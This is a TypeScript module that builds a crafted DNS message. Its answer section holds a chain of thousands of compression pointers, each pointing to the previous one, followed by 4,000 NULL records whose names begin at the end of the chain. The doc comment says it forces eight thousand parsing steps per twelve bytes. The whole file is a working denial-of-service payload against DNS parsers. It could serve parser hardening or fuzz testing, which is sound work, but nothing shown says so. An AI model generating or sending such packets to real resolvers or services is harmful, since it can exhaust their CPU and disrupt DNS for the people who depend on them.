import * as packet from 'dns-packet';

/**
 * A question with a record full of pointers, each to the one before it, and thousands of records whose name begins at the last of
 * them: whoever follows them takes eight thousand steps for every twelve bytes.
 */
export function pointerChain(name: string): Buffer {
  const asked = packet.encode({
    type: 'query',
    id: 7,
    flags: packet.RECURSION_DESIRED,
    questions: [{ type: 'A', name }],
  });
  const first = asked.length + 12;
  const links = Array.from({ length: (16_380 - first) >> 1 }, (_, i) => pointer(i === 0 ? 12 : first + 2 * i - 2));
  const chain = Buffer.concat(links);
  const records = Array.from({ length: 4_000 }, () => record(first + chain.length - 2, 0));
  const message = Buffer.concat([asked, record(12, chain.length), chain, ...records]);
  message.writeUInt16BE(1 + records.length, 6);
  return message;
}

const pointer = (to: number): Buffer => Buffer.from([0xc0 | (to >> 8), to & 0xff]);

/** Of type NULL. */
const record = (name: number, data: number): Buffer =>
  Buffer.concat([pointer(name), Buffer.from([0, 10, 0, 1, 0, 0, 0, 0, data >> 8, data & 0xff])]);
